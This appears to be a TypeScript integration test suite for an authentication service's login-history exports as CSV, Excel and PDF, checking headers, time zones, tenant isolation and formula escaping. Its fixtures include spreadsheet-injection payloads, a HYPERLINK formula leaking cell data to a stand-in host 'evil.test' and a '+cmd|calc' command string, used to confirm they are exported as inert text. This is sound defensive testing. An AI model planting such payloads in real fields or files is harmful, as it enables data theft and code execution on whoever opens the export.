import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { LoginHistoryEntryView, LoginHistoryPage } from '@app/contracts';
import { expectStatus, randomIp } from '@app/testing';
import { User } from '@app/auth/users/user.entity';
import { AuthGateway } from './auth-gateway';
import { TenantFixture, UserFixture } from './auth-test-app';
import { pdfText } from '../audit/support/pdf-text';

interface Download {
  status: number;
  headers: Headers;
  bytes: Buffer;
}

const JA_HEADERS = [
  '日時',
  'ユーザーID',
  '種別',
  '認証方式',
  '結果',
  '理由',
  'IPアドレス',
  'ユーザーエージェント',
  'セッション / フロー',
];
const EN_HEADERS = [
  'Time',
  'User ID',
  'Event',
  'Method',
  'Result',
  'Reasons',
  'IP address',
  'User agent',
  'Session / flow',
];

/** A hostile user agent: a spreadsheet would run it if a cell began with it. */
const FORMULA_AGENT = '=HYPERLINK("http://evil.test/?"&A1,"click")';

/** The cells a file should hold for a JSON row, times in `zone` given by its expected offset. */
function expectedCells(row: LoginHistoryEntryView): string[] {
  return [
    row.loginId ?? '',
    row.event,
    row.method ?? '',
    row.result,
    row.reasons.join(' '),
    row.ip ?? '',
    row.userAgent ?? '',
    row.target ? `${row.target.type}:${row.target.id}` : '',
  ];
}

/** The time cell names the same instant as the JSON row, to the second, with the zone's offset. */
function expectTime(cell: string, row: LoginHistoryEntryView, offsets: string[]): void {
  expect(cell).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$/);
  expect(offsets).toContain(cell.slice(-6));
  expect(Date.parse(cell)).toBe(Math.floor(Date.parse(row.occurredAt) / 1000) * 1000);
}

/** AUTH-22: the login history as CSV, Excel and PDF files, with the same rows as the JSON. */
describe('login history exports (AUTH-22), through the gateway', () => {
  let platform: AuthGateway;
  let tenant: TenantFixture;
  let user: UserFixture;
  let token: string;
  let json: LoginHistoryEntryView[];

  /** GET with the bytes as they came (binary files would not survive a text decoding). */
  async function download(path: string, bearer: string): Promise<Download> {
    const res = await fetch(`${platform.url}/api/v1${path}`, {
      headers: { authorization: `Bearer ${bearer}`, 'x-forwarded-for': randomIp() },
    });
    return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
  }

  async function jsonHistory(path: string, bearer: string): Promise<LoginHistoryEntryView[]> {
    const answer = await platform.api('GET', `${path}${path.includes('?') ? '&' : '?'}pageSize=500`, {
      token: bearer,
    });
    expectStatus(answer, 200);
    return (answer.body as LoginHistoryPage).items;
  }

  beforeAll(async () => {
    platform = await AuthGateway.create();
    tenant = await platform.auth.newTenant();
    user = await platform.auth.newUser({ tenant, mfaRequired: true, language: 'ja' });
    const failed = await platform.api('POST', '/auth/login', {
      body: { userId: user.userId, password: 'Wrong-password-1' },
      userAgent: FORMULA_AGENT,
    });
    expect(failed.status).toBe(401);
    platform.auth.clock.advance(5_000);
    const first = await platform.login(user, {
      method: 'email',
      userAgent: 'Mozilla/5.0 (X11; Linux x86_64)',
    });
    platform.auth.clock.advance(5_000);
    expectStatus(await platform.api('POST', '/auth/logout', { body: {}, token: first.accessToken }), 204);
    platform.auth.clock.advance(31_000);
    token = (await platform.login(user, { method: 'email', userAgent: '+cmd|calc' })).accessToken;
    json = await jsonHistory('/me/login-history', token);
    expect(json.length).toBeGreaterThanOrEqual(12);
  });
  afterAll(async () => {
    await platform.close();
  });

  it('exports CSV with the rows of the JSON, Japanese headers, Tokyo times and no live formulas', async () => {
    const file = await download('/me/login-history?format=csv', token);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(file.headers.get('content-disposition')).toMatch(
      /^attachment; filename="login-history-\d{8}-\d{4}\.csv"$/,
    );
    // UTF-8 with a byte-order mark, so Excel reads the Japanese headers.
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const [headers, ...rows] = parse(file.bytes, { bom: true }) as string[][];
    expect(headers).toEqual(JA_HEADERS);
    expect(rows).toHaveLength(json.length);
    rows.forEach((cells, i) => {
      expectTime(cells[0], json[i], ['+09:00']);
      const expected = expectedCells(json[i]).map((c) => (/^[=+\-@]/.test(c) ? `'${c}` : c));
      expect(cells.slice(1)).toEqual(expected);
    });
    // The hostile agents are there, as text.
    const agents = rows.map((cells) => cells[7]);
    expect(agents).toContain(`'${FORMULA_AGENT}`);
    expect(agents).toContain(`'+cmd|calc`);
    expect(agents.some((a) => /^[=+\-@]/.test(a))).toBe(false);
  });

  it('exports xlsx that opens with the rows of the JSON, in the reader’s language and time zone', async () => {
    // Headers and times follow the reader's profile (AUTH-20), not the browser.
    await platform.auth.dataSource
      .getRepository(User)
      .update({ id: user.id }, { language: 'en', timezone: 'America/New_York' });
    try {
      const file = await download('/me/login-history?format=xlsx', token);
      expect(file.status).toBe(200);
      expect(file.headers.get('content-type')).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename=".+\.xlsx"$/);

      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(file.bytes as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0];
      expect(sheet.name).toBe('Login history');
      const rows: string[][] = [];
      sheet.eachRow((row) => {
        rows.push(EN_HEADERS.map((_h, i) => String(row.getCell(i + 1).value ?? '')));
      });
      expect(rows[0]).toEqual(EN_HEADERS);
      expect(rows).toHaveLength(json.length + 1);
      rows.slice(1).forEach((cells, i) => {
        expectTime(cells[0], json[i], ['-05:00', '-04:00']);
        // Cells are strings, never formulas: the agent is kept as it was sent.
        expect(cells.slice(1)).toEqual(expectedCells(json[i]));
      });
    } finally {
      await platform.auth.dataSource
        .getRepository(User)
        .update({ id: user.id }, { language: 'ja', timezone: 'Asia/Tokyo' });
    }
  });

  it("exports a valid PDF whose text holds every row's time, address, method and result", async () => {
    const file = await download('/me/login-history?format=pdf', token);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('application/pdf');
    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename=".+\.pdf"$/);
    expect(file.bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(file.bytes.toString('latin1').trimEnd().endsWith('%%EOF')).toBe(true);

    const text = await pdfText(file.bytes);
    expect(text).toContain('Login history');
    expect(text).toContain(`User ${user.userId}`);
    // Headers in English whatever the reader's language: the standard fonts have no Japanese.
    for (const header of ['Time', 'Event', 'Method', 'Result', 'IP address', 'User agent']) {
      expect(text).toContain(header);
    }
    // Each row, in order: its first line starts with its time; a long cell may wrap onto the lines
    // below, up to the next row's time.
    const blocks = text
      .split(/\n(?=\d{4}-\d\d-\d\dT)/)
      .slice(1)
      .map((block) => block.split('\n-- ')[0].replace(/\nPage \d+ \/ \d+[\s\S]*$/, ''));
    expect(blocks).toHaveLength(json.length);
    json.forEach((row, i) => {
      const local = new Date(Date.parse(row.occurredAt) + 9 * 3600_000).toISOString().slice(0, 19);
      expect(blocks[i].startsWith(`${local}+09:00 ${user.userId} ${row.event} `)).toBe(true);
      for (const cell of [row.method ?? '', row.result, row.ip as string, ...row.reasons]) {
        expect(blocks[i]).toContain(cell);
      }
    });
    expect(text).toContain('Mozilla/5.0 (X11; Linux x86_64)');
  });

  it("exports a tenant's history for its admin: the tenant's users only", async () => {
    const admin = await platform.auth.newUser({ tenant, role: 'admin' });
    const adminToken = (await platform.login(admin, { method: 'email' })).accessToken;
    // A user of another tenant, with a login of their own.
    const stranger = await platform.auth.newUser({ tenant: await platform.auth.newTenant() });
    await platform.login(stranger);

    const rowsJson = await jsonHistory('/admin/login-history', adminToken);
    expect(new Set(rowsJson.map((r) => r.userId))).toEqual(new Set([user.id, admin.id]));

    const file = await download('/admin/login-history?format=csv', adminToken);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-disposition')).toContain(`login-history-${tenant.number}-`);
    const [, ...rows] = parse(file.bytes, { bom: true }) as string[][];
    expect(rows.map((cells) => [cells[1], cells[6]])).toEqual(rowsJson.map((r) => [r.loginId, r.ip ?? '']));
    expect(rows.some((cells) => cells[1] === stranger.userId)).toBe(false);

    const one = await download(`/admin/login-history?format=csv&userId=${admin.id}`, adminToken);
    const [, ...adminRows] = parse(one.bytes, { bom: true }) as string[][];
    expect(adminRows.length).toBe(rowsJson.filter((r) => r.userId === admin.id).length);
    expect(adminRows.every((cells) => cells[1] === admin.userId)).toBe(true);
  });
});
